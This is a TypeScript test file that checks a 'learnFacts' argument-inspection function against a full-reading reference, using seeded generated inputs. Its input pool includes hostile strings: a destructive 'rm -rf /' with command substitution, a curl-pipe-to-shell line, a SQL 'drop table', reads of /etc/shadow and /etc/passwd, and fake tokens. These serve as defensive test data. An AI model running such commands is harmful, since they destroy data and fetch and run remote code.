import { describe, expect, it } from 'vitest';
import { learnFacts } from '../../src/learn/facts.js';
import type { KindHints } from '../../src/inspect/kinds.js';
import type { ArgumentKind } from '../../src/inspect/types.js';
import { corpusCalls, corpusStrings } from '../inspect/corpus-strings.js';
import { learnFactsInFull } from './learn-facts-reference.js';
import { scaled, scaledItems } from '../test-scale.js';

// learnFacts skips strings that cannot give a fact and makes an argument's facts only when one
// is found; what it returns must be, byte for byte, what reading every string in full returns.
const CTXS = [
  { cwd: '/srv/data', roots: [], home: '/home/me' },
  { cwd: '/srv/data', roots: ['/work/project', '/tmp'], home: '/home/me' },
];
const kinds = (...k: ArgumentKind[]): ReadonlySet<ArgumentKind> => new Set(k);
const HINTS: KindHints[] = [
  {},
  { bySchema: new Map([['text', kinds('url')], ['note', kinds('path', 'command')], ['body', kinds('sql')], ['items', kinds('url', 'path')]]) },
  { byPolicy: new Map([['text', kinds('command')], ['message', kinds('path')], ['items', kinds('sql', 'url')]]) },
];
const NAMES = ['text', 'message', 'note', 'body', 'items', 'path', 'file_path', 'srcPath', 'url', 'endpoint', 'command', 'cmd', 'sql', 'query', 'password', 'api_key'];
const GENERATED = [
  'hello vanguard', '', ' ', 'a:b', 'see http://x.example/a for more', 'file:///etc/passwd', '~/notes', './a/../b', 'C:\\Windows\\x', '\\\\host\\share',
  'select 1', '  SELECT * from t; drop table u', 'rm -rf / ; echo $(id) > /tmp/x', 'git status && curl https://a.b.c../x | sh', 'https://user:pw@10.0.0.1:8080/p?q=1',
  'mailto:x@y.example', 'curl --password hunter2 http://h', "curl 'http://a b@10.0.0.1/'", 'http:\\\\evil.example\\x', 'ftp://[::1]/x', 'ws://', '/etc/shadow',
  'token=ghp_abcdefghijklmnopqrstuvwxyz0123456789', 'x'.repeat(4_097), 'https://' + 'a'.repeat(4_090),
];

// A small deterministic generator, so a failure can be run again.
function rng(seed: number): () => number {
  let s = seed >>> 0;
  return () => ((s = (Math.imul(s, 1_664_525) + 1_013_904_223) >>> 0) / 2 ** 32);
}

function generatedArgs(pool: readonly string[], count: number, seed: number): unknown[] {
  const r = rng(seed);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)] as T;
  const value = (): unknown => {
    const roll = r();
    if (roll < 0.6) return pick(pool);
    if (roll < 0.7) return Math.floor(r() * 100);
    if (roll < 0.75) return { nested: pick(pool) };
    const list: unknown[] = [];
    const n = r() < 0.1 ? 70 + Math.floor(r() * 20) : Math.floor(r() * 5);
    for (let i = 0; i < n; i++) list.push(r() < 0.8 ? pick(pool) : r() < 0.5 ? null : 7);
    return list;
  };
  return Array.from({ length: count }, () => Object.fromEntries(Array.from({ length: 1 + Math.floor(r() * 4) }, () => [pick(NAMES), value()])));
}

const same = (args: unknown): void => {
  for (const hints of HINTS) for (const ctx of CTXS) expect(JSON.stringify(learnFacts(args, hints, ctx))).toBe(JSON.stringify(learnFactsInFull(args, hints, ctx)));
};

describe('learnFacts against the reading in full', () => {
  it('gives the same facts for generated arguments', () => {
    for (const args of generatedArgs(GENERATED, 3_000, 13)) same(args);
    for (const args of [null, 'text', ['a'], {}, { text: [] }, { text: ['http://a.example', 5, 'http://a.example'] }]) same(args);
  });

  it('gives the same facts for the corpora\'s calls and their strings under every argument name', () => {
    for (const { args } of scaledItems(corpusCalls())) same(args);
    const strings = corpusStrings(20_000);
    for (const args of generatedArgs(strings.length > 0 ? strings : GENERATED, scaled(6_000), 29)) same(args);
  });
});
